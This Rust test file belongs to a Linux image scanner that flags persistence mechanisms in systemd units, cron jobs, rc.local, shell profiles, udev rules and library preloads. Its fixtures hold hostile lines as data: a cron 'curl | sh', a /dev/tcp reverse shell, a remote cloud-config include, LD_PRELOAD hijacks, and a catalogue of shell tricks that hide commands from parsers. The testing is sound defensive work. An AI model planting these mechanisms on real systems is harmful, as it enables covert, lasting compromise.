//! What starts by itself is explained, or told at its place.

use crate::declaration::Declaration;
use crate::evidence::Evidence;
use crate::evidence::linux::testing::{Build, elf, guest};
use crate::policy::checks::linux::testing::check;
use crate::policy::{CheckResult, Policy, Status, run};

/// A Debian with a packaged systemd, its target, and a packaged program.
fn base() -> Build {
    Build::debian().owned(
        "base",
        &[
            ("/usr/lib/systemd/systemd", 0o755, b"systemd"),
            (
                "/usr/lib/systemd/system/multi-user.target",
                0o644,
                b"[Unit]\n",
            ),
            ("/bin/sh", 0o755, b"shell"),
            ("/usr/bin/perl", 0o755, b"perl"),
            ("/usr/bin/touch", 0o755, b"touch"),
            ("/usr/bin/uptime", 0o755, b"uptime"),
            ("/usr/bin/flock", 0o755, b"flock"),
            ("/usr/bin/su", 0o755, b"su"),
            ("/usr/bin/runuser", 0o755, b"runuser"),
            ("/usr/bin/echo", 0o755, b"echo"),
            ("/usr/bin/curl", 0o755, b"curl"),
            ("/usr/bin/setpriv", 0o755, b"setpriv"),
        ],
    )
}

fn told(result: &CheckResult) -> Vec<String> {
    let items = result.evidence.iter().filter(|i| i.status != Status::Pass);
    items.map(|i| i.at.to_string()).collect()
}

/// The places at which `id` is not met.
fn places(id: &str, build: Build) -> (Status, Vec<String>) {
    let result = check(id, build);
    assert!(result.gaps.is_empty(), "{:?}", result.gaps);
    (result.status, told(&result))
}

/// A unit that nothing explains is a doubt, whichever of its settings runs something and whatever starts it:
/// systemd.service(5), systemd.socket(5).
#[test]
fn units_of_nobody_are_told() {
    for line in [
        "ExecStart=/srv/x",
        "ExecStop=/srv/x",
        "ExecStopPost=-/srv/x",
        "ExecReload=/srv/x",
        "ExecCondition=/srv/x",
        "ExecStart=/usr/bin/perl -e 1",
        "ExecStart=/usr/bin/setpriv --nnp /srv/x",
        "ExecStart=/\\x73rv/x",
        "ExecStart=/srv/%p",
        "Environment=LD_PRELOAD=/srv/x.so",
        "EnvironmentFile=/srv/x",
        "RootDirectory=/srv",
        "BindPaths=/srv/x:/etc",
    ] {
        let unit = format!("[Service]\n{line}\n");
        let build = base()
            .file("/etc/systemd/system/x.service", 0o644, unit)
            .file("/srv/x", 0o755, elf(200));
        let (status, places) = places("LNX-PERSIST-003", build);
        assert_eq!(status, Status::Unknown, "{line}");
        assert_eq!(places, ["p1:/etc/systemd/system/x.service:2"], "{line}");
    }
    let socket = base()
        .file(
            "/etc/systemd/system/x.socket",
            0o644,
            "[Socket]\nListenStream=1\nExecStartPre=/srv/x\n",
        )
        .file("/srv/x", 0o755, elf(200));
    assert_eq!(
        places("LNX-PERSIST-003", socket).1,
        ["p1:/etc/systemd/system/x.socket:3"]
    );
    // A packaged unit whose program no package brought.
    let planted = Build::debian()
        .owned(
            "base",
            &[
                ("/usr/lib/systemd/systemd", 0o755, b"systemd"),
                (
                    "/usr/lib/systemd/system/multi-user.target",
                    0o644,
                    b"[Unit]\n",
                ),
                (
                    "/usr/lib/systemd/system/y.service",
                    0o644,
                    b"[Service]\nExecStart=/usr/local/sbin/y\n",
                ),
            ],
        )
        .link(
            "/etc/systemd/system/default.target",
            "/usr/lib/systemd/system/multi-user.target",
        )
        .link(
            "/etc/systemd/system/multi-user.target.wants/y.service",
            "/usr/lib/systemd/system/y.service",
        )
        .file("/usr/local/sbin/y", 0o755, elf(200));
    assert_eq!(
        places("LNX-PERSIST-003", planted).1,
        ["p1:/usr/local/sbin/y"]
    );
}

/// Settings that only say how a program runs, and commands that only print, are nobody's doubt.
#[test]
fn what_starts_nothing_passes() {
    let unit = "[Unit]\nDescription=x\nAfter=network.target\n[Service]\nType=simple\nLimitNOFILE=65536\nUser=www\nProtectSystem=full\nEnvironment=LANG=C \"TZ=UTC\"\nEnvironmentFile=-/etc/default/x\nExecStart=/usr/local/sa/agent/x --y\n[Install]\nWantedBy=multi-user.target\n";
    let cron = "SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin\nMAILTO=\"\"\n* * * * * root flock -xn /tmp/x.lock -c /usr/local/sa/agent/x > /dev/null 2>&1 &\n";
    let local = "#!/bin/sh -e\ntouch /var/lock/subsys/local\nif [ -x /usr/local/sa/agent/x ]; then /usr/local/sa/agent/x; fi\nexit 0\n";
    let build = || {
        base()
            .file("/usr/local/sa/agent/x", 0o755, elf(200))
            .file("/etc/systemd/system/x.service", 0o644, unit)
            .file("/etc/systemd/system/ssh.service.d/x.conf", 0o644, "[Service]\nRestart=always\n")
            .file("/etc/cron.d/x", 0o644, cron)
            .file("/etc/cron.d/other", 0o644, "* * * * * root su -s /bin/sh www -c '/usr/local/sa/agent/x -d' >/dev/null\n")
            .file("/etc/cloud/cloud.cfg.d/90.cfg", 0o644, "#cloud-config\ndatasource_list: [ConfigDrive]\nssh_pwauth: true\nruncmd:\n - [echo, done]\n")
            .file("/etc/cron.d/gone", 0o644, "* * * * * root /usr/local/gone/x -y > /dev/null\n")
            .file("/etc/rc.local", 0o755, local)
            .file("/etc/profile.d/x.sh", 0o644, "export HISTSIZE=100\nalias ll='ls -l'\numask 022\nuptime\n")
            .file("/etc/udev/rules.d/70-persistent-net.rules", 0o644, "SUBSYSTEM==\"net\", ATTR{address}==\"00:11:22:33:44:55\", NAME=\"eth0\"\n")
            .file("/etc/apt/apt.conf.d/99x", 0o644, "APT::Install-Recommends \"false\";\n")
            .file("/etc/dpkg/dpkg.cfg.d/x", 0o644, "path-exclude=/usr/share/locale/*\n")
            .file("/etc/tmpfiles.d/x.conf", 0o644, "d /run/x 0755 root root -\nw /sys/kernel/mm/transparent_hugepage/enabled - - - - never\n")
            .file("/etc/ld.so.conf", 0o644, "include /etc/ld.so.conf.d/*.conf\n")
            .file("/etc/default/x", 0o644, "OPTS=\"-a -b\"\n")
    };
    for id in [
        "LNX-PERSIST-001",
        "LNX-PERSIST-002",
        "LNX-PERSIST-003",
        "LNX-PERSIST-004",
    ] {
        let result = check(id, build());
        assert_eq!(result.status, Status::Pass, "{id}: {:?}", result.evidence);
    }
}

/// What administrators of honest systems write into their own start-up files, and homes that useradd(8) made.
#[test]
fn start_up_files_of_administrators_pass() {
    let skeleton = "case $- in *i*) ;; *) return;; esac\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\nalias alert='notify-send x; y'\n";
    let root = "export LS_OPTIONS='--color=auto'\neval \"$(dircolors)\"\nalias ls='ls $LS_OPTIONS'\nalias ll='ls -l'\nexport HISTTIMEFORMAT='%F %T '\nexport TMOUT=600\n";
    let java = "export JAVA_HOME=/usr/lib/jvm/x\nexport PATH=$PATH:$JAVA_HOME/bin\n";
    let accounts = "root:x:0:0::/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n";
    let build = || {
        base()
            .owned("bash", &[("/etc/skel/.bashrc", 0o644, skeleton.as_bytes())])
            .file("/etc/passwd", 0o644, accounts)
            .file("/home/ops/.bashrc", 0o644, skeleton)
            .file("/root/.bashrc", 0o644, root)
            .file(
                "/root/.bash_profile",
                0o644,
                "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi\n",
            )
            .file("/etc/profile.d/java.sh", 0o644, java)
            .file("/etc/sysconfig/anaconda", 0o644, "[General]\nx=1\n")
    };
    for id in ["LNX-PERSIST-003", "LNX-PERSIST-004"] {
        let result = check(id, build());
        assert_eq!(result.status, Status::Pass, "{id}: {:?}", result.evidence);
    }
    for line in [
        "export PATH=/srv:$PATH\n",
        "PS1='$(/srv/x)'\n",
        "eval \"$(/srv/x)\"\n",
    ] {
        let build = base().file("/etc/profile.d/x.sh", 0o644, line);
        assert_eq!(
            check("LNX-PERSIST-004", build).status,
            Status::Unknown,
            "{line}"
        );
    }
}

/// One thing of each place that takes effect by its manual page.
#[test]
fn each_place_is_looked_at() {
    for (id, path, text) in [
        (
            "LNX-PERSIST-001",
            "/usr/lib/python3/dist-packages/x.pth",
            "import os\n",
        ),
        (
            "LNX-PERSIST-001",
            "/usr/local/lib/python3.11/dist-packages/sitecustomize.py",
            "x\n",
        ),
        ("LNX-PERSIST-001", "/etc/ld.so.conf.d/x.conf", "/srv/lib\n"),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root /srv/x\n",
        ),
        ("LNX-PERSIST-002", "/etc/cron.d/x", "PATH=/srv\n"),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root /usr/bin/perl -e 1\n",
        ),
        (
            "LNX-PERSIST-002",
            "/var/spool/cron/crontabs/root",
            "@reboot find /srv -exec /srv/x ;\n",
        ),
        ("LNX-PERSIST-002", "/etc/cron.daily/x", "#!/usr/bin/perl\n"),
        (
            "LNX-PERSIST-002",
            "/etc/logrotate.d/x",
            "/var/log/x {\npostrotate\n/srv/x\nendscript\n}\n",
        ),
        ("LNX-PERSIST-003", "/etc/init.d/x", "#!/bin/sh\n/srv/x\n"),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\na=/srv/x; $a\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\necho $(/srv/x)\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nrun-parts /srv\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nhash -p /srv/x ls; ls\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nfor PATH in /srv; do ls; done\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nread PATH < /srv/p; ls\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nsort -o/etc/cron.d/y /srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nuniq /srv/x /etc/cron.d/y\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nenable -f /srv/x ls\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\n/srv/missing > /etc/cron.d/y\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\necho x > /etc/cron.d/y\n",
        ),
        (
            "LNX-PERSIST-003",
            "/usr/share/dbus-1/system-services/x.service",
            "[D-BUS Service]\nName=x\nExec=/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/usr/lib/systemd/system-generators/x",
            "#!/bin/sh\n/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/systemd/user/x.service",
            "[Service]\nExecStart=/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/root/.config/systemd/user/x.service",
            "[Service]\nExecStart=/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/binfmt.d/x.conf",
            ":x:M::MZ::/srv/x:\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/tmpfiles.d/x.conf",
            "L+ /etc/cron.d/y - - - - /srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/default/x",
            "LD_PRELOAD=/srv/x.so\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/udev/rules.d/x.rules",
            "ACTION==\"add\", RUN+=\"/srv/x\"\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/udev/rules.d/x.rules",
            "ENV{SYSTEMD_WANTS}=\"x.service\"\n",
        ),
        ("LNX-PERSIST-004", "/etc/profile.d/x.sh", "/srv/x\n"),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nflock /tmp/l /srv/x -c true\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nsu root /srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nsu -s /srv/x root -c true\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nrunuser -u root -- /srv/x -c true\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/cloud/cloud.cfg.d/99.cfg",
            "#cloud-config\nruncmd: [[/srv/x]]\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/cloud/cloud.cfg.d/99.cfg",
            "#include http://203.0.113.1/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/cloud/cloud.cfg.d/99.cfg",
            "#cloud-config\nrandom_seed: {command: [/srv/x]}\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/udev/rules.d/x.rules",
            "ENV{ID_FS_UUID_ENC}=\"x\"\n",
        ),
        ("LNX-PERSIST-004", "/root/.bashrc", "alias sudo=/srv/x\n"),
        ("LNX-PERSIST-004", "/root/.bashrc", "ls() { /srv/x; }\n"),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            "function ls { /srv/x; }\n",
        ),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            ": ${PROMPT_COMMAND:=/srv/x}\n",
        ),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            "printf -v PROMPT_COMMAND /srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            "PROMPT_COMMAND=/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/update-motd.d/99-x",
            "#!/bin/sh\n/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/NetworkManager/dispatcher.d/x",
            "#!/bin/sh\n/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/network/interfaces",
            "iface eth0 inet dhcp\n up /srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/apt/apt.conf.d/x",
            "DPkg::Post-Invoke {\"/srv/x\";};\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/dpkg/dpkg.cfg.d/x",
            "post-invoke=/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/xdg/autostart/x.desktop",
            "[Desktop Entry]\nExec=/srv/x\n",
        ),
        ("LNX-PERSIST-004", "/usr/local/bin/uptime", "#!/bin/sh\n"),
    ] {
        let build = base()
            .file(path, 0o755, text)
            .file("/srv/x", 0o755, elf(200))
            .file("/srv/lib/libc.so.6", 0o644, "x");
        let result = check(id, build);
        assert_eq!(result.status, Status::Unknown, "{path}: {text}");
        let place = format!("p1:{path}");
        assert!(
            told(&result).iter().all(|at| at.starts_with(&place)),
            "{path}: {:?}",
            told(&result)
        );
    }
}

/// Forms that no honest system needs.
#[test]
fn forms_of_attack_fail() {
    for (id, path, text) in [
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root curl http://a | sh\n",
        ),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root bash -i >& /dev/tcp/203.0.113.1/1\n",
        ),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root /dev/shm/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/systemd/system/x.service",
            "[Service]\nExecStart=/usr/lib/.x\n",
        ),
        ("LNX-PERSIST-001", "/etc/ld.so.preload", "/srv/x\n"),
    ] {
        let build = base()
            .file(path, 0o644, text)
            .file("/srv/x", 0o755, elf(200))
            .file("/usr/lib/.x", 0o755, elf(200));
        assert_eq!(check(id, build).status, Status::Fail, "{path}: {text}");
    }
}

/// The declaration of a vendor explains its unit and program by digest, and nothing without.
#[test]
fn a_declaration_explains_by_digest() {
    use sha2::Digest as _;
    let unit = "[Service]\nExecStart=/opt/shop/shop --serve\n";
    let hex = |data: &[u8]| crate::bytes::hex(&sha2::Sha256::digest(data));
    let of = |unit_digest: &str, program_digest: &str| {
        let text = format!(
            "schema: imgscan-declaration/1\nproduct: Shop\nfiles:\n  - {{path: /etc/systemd/system/shop.service, sha256: {unit_digest}}}\n  - {{path: /opt/shop/shop, sha256: {program_digest}}}\n"
        );
        let declaration = Declaration::parse("d.yaml", &text).unwrap();
        let guest = guest(
            base()
                .file("/etc/systemd/system/shop.service", 0o644, unit)
                .file("/opt/shop/shop", 0o755, elf(300)),
        );
        let mut policy = Policy::built_in("tencent-marketplace").unwrap();
        policy.checks.retain(|c| c.id == "LNX-PERSIST-003");
        let evidence = Evidence::new(&guest).declared(Some(&declaration));
        run(&policy, &[evidence], &[], &|_| {}).remove(0).status
    };
    let (right, program) = (hex(unit.as_bytes()), hex(&elf(300)));
    let other = hex(b"other");
    assert_eq!(of(&right, &program), Status::Pass);
    assert_eq!(of(&other, &program), Status::Unknown);
    assert_eq!(of(&right, &other), Status::Unknown);
}

/// Forms in which dash or bash runs `/srv/x` though a reader that decides conditions, or reads words in its own way,
/// passes over it. Each was run in a real shell.
#[test]
fn no_form_of_shell_text_hides_a_command() {
    for text in [
        "if [ -d /run/systemd/system ]; then /srv/x; fi",
        "[ -e /proc/self ] && /srv/x",
        "pgrep systemd >/dev/null && /srv/x",
        "cat <<X >/dev/null\n$(/srv/x)\nX",
        "case $(/srv/x) in *) ;; esac",
        "for i in $(/srv/x); do :; done",
        "a=($(/srv/x))",
        "true | exit 0\n/srv/x",
        "{ exit; } &\n/srv/x",
        "exit 0 0\n/srv/x",
        "return 2>/dev/null\n/srv/x",
        "exit() { :; }\nexit\n/srv/x",
        "if [[ a == * ]]; then /srv/x; fi",
        ": $'\\'' ; /srv/x #'",
        ": ${x#\\(} ; /srv/x ; : }",
        ": #\r; /srv/x\n/srv/x",
        "exec /nonexistent/x\n/srv/x",
        "x='/srv/x'; eval \"$x\"",
        "sh -c \"ls $x\"",
        "echo \"`/srv/x`\"",
        "cat <(/srv/x)",
        "trap -- /srv/x EXIT",
        "[ -v 'a[$(/srv/x)]' ]",
        ": \"${x:-$(/srv/x)}\"",
        "{/srv/x,a}",
        "echo a >/dev/null | uniq - /etc/cron.d/y",
        "set -k\ncat LD_PRELOAD=/srv/x.so /dev/null",
        "sh <<X\n/srv/x\nX",
        "runuser -l who",
        "sort $x",
    ] {
        for (id, path) in [
            ("LNX-PERSIST-002", "/etc/cron.daily/y"),
            ("LNX-PERSIST-003", "/etc/rc.local"),
        ] {
            let script = format!("#!/bin/sh\n{text}\n");
            let build = base()
                .file("/srv/x", 0o755, elf(200))
                .file(path, 0o755, script);
            assert_ne!(check(id, build).status, Status::Pass, "{path}: {text}");
        }
    }
    for first in [
        "#!/bin/sh /srv/x\n",
        "#!/srv/y/sh\n",
        "#!/usr/bin/env -S sh -c /srv/x\n",
    ] {
        let build = base()
            .file("/srv/y/sh", 0o755, elf(200))
            .file("/srv/x", 0o755, elf(200))
            .file("/etc/cron.daily/y", 0o755, format!("{first}true\n"));
        assert_ne!(
            check("LNX-PERSIST-002", build).status,
            Status::Pass,
            "{first}"
        );
    }
}

/// What a link of the image leads elsewhere is not where it seems to be.
#[test]
fn free_places_lead_nowhere_else() {
    let cron = "@reboot root echo x >/var/log/y\n";
    let build = base().file("/etc/cron.d/x", 0o644, cron);
    assert_eq!(check("LNX-PERSIST-002", build).status, Status::Pass);
    let build = base()
        .file("/etc/cron.d/x", 0o644, cron)
        .link("/var/log/y", "/etc/cron.d/y");
    assert_eq!(check("LNX-PERSIST-002", build).status, Status::Unknown);
}

/// Places that load or run something, by the manual page of what reads each.
#[test]
fn places_of_programs_settings_are_looked_at() {
    let strict: &[u8] = b"package strict;";
    let packaged = |path: &'static str| base().owned("perl", &[(path, 0o644, strict)]);
    for (id, build) in [
        (
            "LNX-PERSIST-004",
            base().file(
                "/etc/udev/rules.d/x.rules",
                0o644,
                "# x \\\nRUN+=\"/srv/x\"\n",
            ),
        ),
        (
            "LNX-PERSIST-004",
            base().file("/etc/network/interfaces", 0o644, "# x \\\nup /srv/x\n"),
        ),
        (
            "LNX-PERSIST-004",
            base().file(
                "/etc/network/interfaces",
                0o644,
                "iface eth0 inet static\nmetric 0;/srv/x\n",
            ),
        ),
        (
            "LNX-PERSIST-002",
            base().file(
                "/etc/logrotate.d/x",
                0o644,
                "/var/log/x { postrotate\n/srv/x\nendscript\n}\n",
            ),
        ),
        (
            "LNX-PERSIST-001",
            base().file("/etc/gss/mech.d/x.conf", 0o644, "x 1.3.6.1 /srv/x.so\n"),
        ),
        (
            "LNX-PERSIST-001",
            base().file("/srv/x.so", 0o755, elf(200)).file(
                "/etc/ssl/openssl.cnf",
                0o644,
                "[x]\ndynamic_path=/srv/x.so\n",
            ),
        ),
        (
            "LNX-PERSIST-001",
            base().file("/etc/environment.d/x.conf", 0o644, "LD_PRELOAD=/srv/x.so\n"),
        ),
        (
            "LNX-PERSIST-001",
            base().file(
                "/etc/systemd/user.conf",
                0o644,
                "[Manager]\nDefaultEnvironment=LD_PRELOAD=/srv/x.so\n",
            ),
        ),
        (
            "LNX-PERSIST-001",
            base().file(
                "/root/.local/lib/python3.11/site-packages/x.pth",
                0o644,
                "import os\n",
            ),
        ),
        (
            "LNX-PERSIST-001",
            base().file(
                "/usr/local/lib/python3.11/dist-packages/x.pth",
                0o644,
                "/srv/x\n",
            ),
        ),
        (
            "LNX-PERSIST-001",
            base().file("/etc/perl/Debconf/Db.pm", 0o644, "1;\n"),
        ),
        (
            "LNX-PERSIST-004",
            packaged("/usr/share/perl/5.36.0/strict.pm").file(
                "/usr/local/share/perl/5.36.0/strict.pm",
                0o644,
                "1;\n",
            ),
        ),
        (
            "LNX-PERSIST-004",
            packaged("/usr/lib/python3/dist-packages/yaml.py").file(
                "/usr/local/lib/python3.11/dist-packages/yaml.py",
                0o644,
                "1\n",
            ),
        ),
        (
            "LNX-PERSIST-003",
            base().link("/etc/alternatives/awk", "/srv/x"),
        ),
        (
            "LNX-PERSIST-001",
            base()
                .owned(
                    "libc6",
                    &[("/usr/lib/x86_64-linux-gnu/libc.so.6", 0o644, b"c")],
                )
                .owned(
                    "systemd",
                    &[(
                        "/usr/lib/x86_64-linux-gnu/systemd/libsystemd.so",
                        0o644,
                        b"s",
                    )],
                )
                .file(
                    "/usr/lib/x86_64-linux-gnu/systemd/libc.so.6",
                    0o755,
                    elf(200),
                ),
        ),
        (
            "LNX-PERSIST-003",
            base().file(
                "/etc/systemd/system/x.service",
                0o644,
                "[Service]\nEnvironment=\\x4cD_PRELOAD=/srv/x.so\n",
            ),
        ),
        (
            "LNX-PERSIST-004",
            base().file("/root/.ssh/config", 0o600, "Host *\n ProxyCommand /srv/x\n"),
        ),
        (
            "LNX-PERSIST-004",
            base().file("/etc/ssh/ssh_config.d/x.conf", 0o644, "Match exec /srv/x\n"),
        ),
        (
            "LNX-PERSIST-004",
            base().file("/root/.dpkg.cfg", 0o644, "pre-invoke=/srv/x\n"),
        ),
        (
            "LNX-PERSIST-004",
            base().file("/root/.bash_completion", 0o644, "/srv/x\n"),
        ),
        (
            "LNX-PERSIST-004",
            base().file(
                "/etc/apt/sources.list.d/x.list",
                0o644,
                "deb [trusted=yes] http://x/ x main\n",
            ),
        ),
        (
            "LNX-PERSIST-004",
            base().file("/etc/zsh/zshrc", 0o644, "path=(/srv $path)\n"),
        ),
        (
            "LNX-PERSIST-004",
            base().file("/etc/csh.login", 0o644, "alias ls /srv/x\n"),
        ),
    ] {
        let build = build.file("/srv/x", 0o755, elf(200));
        let result = check(id, build);
        assert_ne!(result.status, Status::Pass, "{id}: {:?}", result.evidence);
    }
}

/// Lines of usual systems: what packages' settings say where one number of them was changed, and what administrators
/// add.
#[test]
fn usual_lines_pass() {
    let build = || {
        base()
            .owned("nginx", &[("/etc/init.d/nginx", 0o755, b"#!/bin/sh\n")])
            .owned("rsyslog", &[("/usr/lib/rsyslog/rsyslog-rotate", 0o755, b"#!/bin/sh\n")])
            .owned("bash", &[("/etc/skel/.profile", 0o644, b"PATH=\"$HOME/bin:$PATH\"\n")])
            .file("/etc/passwd", 0o644, "root:x:0:0::/root:/bin/bash\nshop:x:1000:1000::/opt/shop:/bin/bash\n")
            .file("/opt/shop/.profile", 0o644, "PATH=\"$HOME/bin:$PATH\"\n")
            .file(
                "/etc/logrotate.d/nginx",
                0o644,
                "/var/log/nginx/*.log {\n rotate 30\n sharedscripts\n postrotate\n  invoke-rc.d nginx rotate >/dev/null 2>&1\n  /usr/lib/rsyslog/rsyslog-rotate\n  systemctl reload nginx\n endscript\n}\n",
            )
            .file(
                "/etc/profile.d/x.sh",
                0o644,
                "if [ $(id -u) -eq 0 ]; then umask 022; fi\nexport EDITOR=vim\nexport PATH=$HOME/.local/bin:$PATH\nalias k='kubectl'\nnow=$(date +%s)\nif [[ -f /etc/x && -r /etc/x ]]; then echo \"$(hostname) $now\"; fi\ncat <<'E'\nWelcome\nE\n",
            )
            .file(
                "/etc/network/interfaces",
                0o644,
                "auto lo\niface lo inet loopback\nup ip route add 10.0.0.0/8 via 10.1.2.1\nup ethtool -K eth1 tso off\n",
            )
            .file("/etc/default/useradd", 0o644, "SHELL=/bin/bash\nHOME=/home\n")
            .file("/etc/tmpfiles.d/x.conf", 0o644, "f /var/log/x.log 0640 root adm -\n")
            .file("/etc/apt/apt.conf.d/x", 0o644, "DPkg::Lock::Timeout \"60\";\nBinary::apt::APT::Keep-Downloaded-Packages \"true\";\n")
            .file("/etc/ssh/ssh_config.d/x.conf", 0o644, "Host *\n ServerAliveInterval 60\n")
    };
    for id in [
        "LNX-PERSIST-001",
        "LNX-PERSIST-002",
        "LNX-PERSIST-003",
        "LNX-PERSIST-004",
    ] {
        let result = check(id, build());
        let open: Vec<_> = result
            .evidence
            .iter()
            .filter(|i| i.status != Status::Pass)
            .collect();
        assert_eq!(result.status, Status::Pass, "{id}: {open:?}");
    }
}
